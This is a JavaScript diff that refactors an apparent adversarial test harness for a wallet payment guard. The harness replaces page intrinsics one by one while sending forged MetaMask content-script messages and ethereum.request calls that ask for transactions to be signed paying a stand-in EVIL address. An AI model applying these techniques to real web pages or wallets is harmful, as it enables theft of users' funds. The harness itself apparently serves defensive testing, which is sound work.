@@ -74,19 +74,9 @@ export function intrinsics() {
   return roots;
 }
 
-/** Page side: replaces every reachable method and getter in turn by what `liar` makes of it, and pays EVIL by both doors meanwhile. */
-async function pokeEach(a, liar, rootsOf) {
-  const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
-  const post = window.postMessage;
-  const request = window.ethereum.request;
-  const tx = (to) => ({ method: 'eth_signTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
-  await request.call(window.ethereum, tx(a.GOOD)).catch(() => {});
-
-  const roots = rootsOf();
-  const message = (id) => ({
-    target: 'metamask-contentscript',
-    data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id, ...tx(a.EVIL) } },
-  });
+/** Page side: replaces every method and getter of `roots` in turn by what `liar` makes of it, and does `once(number)` meanwhile. */
+export async function replaceEach(a, liar, roots, once) {
+  const { ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
   const noop = () => {};
   const guarded = Boolean(window.payeeguard);
   let tries = 0;
@@ -97,20 +87,18 @@ async function pokeEach(a, liar, rootsOf) {
     } catch {
       return;
     }
-    tries += 1;
     let asked;
     try {
-      apply(post, window, [message(5000 + tries), '*']);
+      asked = once(tries++);
     } catch {
       // Refused, or broken by our own lie.
     }
+    defineProperty(holder, key, descriptor);
     try {
-      asked = apply(request, window.ethereum, [tx(a.EVIL)]);
+      if (asked?.then) asked.then(noop, noop);
     } catch {
       // As above.
     }
-    defineProperty(holder, key, descriptor);
-    if (asked?.then) asked.then(noop, noop);
   };
   for (const holder of roots) {
     for (const key of ownKeys(holder)) {
@@ -124,8 +112,29 @@ async function pokeEach(a, liar, rootsOf) {
       if (tries % 40 === 0) await new Promise((resolve) => setTimeout(resolve));
     }
   }
-  await new Promise((resolve) => setTimeout(resolve, 200));
+  await new Promise((resolve) => setTimeout(resolve, 500));
   return tries;
+}
+
+/** Page side: pays EVIL by both doors while each intrinsic is replaced. */
+async function pokeEach(a, liar, rootsOf, inTurn) {
+  const { apply } = Reflect;
+  const post = window.postMessage;
+  const request = window.ethereum.request;
+  const tx = (to) => ({ method: 'eth_signTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
+  await request.call(window.ethereum, tx(a.GOOD)).catch(() => {});
+  const message = (id) => ({
+    target: 'metamask-contentscript',
+    data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id, ...tx(a.EVIL) } },
+  });
+  return inTurn(a, liar, rootsOf(), (number) => {
+    try {
+      apply(post, window, [message(5000 + number), '*']);
+    } catch {
+      // Refused, or broken by our own lie.
+    }
+    return apply(request, window.ethereum, [tx(a.EVIL)]);
+  });
 }
 
 /** Page side: lets `breakRealm` poison what it likes, pays EVIL by both doors, then puts everything back. */
@@ -177,7 +186,7 @@ async function pokeFamily(a, breakRealm) {
 }
 
 /** The attack that replaces each intrinsic in turn; `liar(genuine, name, a)` makes the replacement, in the page. */
-export const eachInTurn = (liar) => shared(pokeEach, liar, intrinsics);
+export const eachInTurn = (liar) => shared(pokeEach, liar, intrinsics, replaceEach);
 
 /** The attack that poisons a family at once; `breakRealm(a, poison)` runs in the page, poison(holder, key, (genuine) => liar);
  * what it returns mends what `poison` does not know of. */
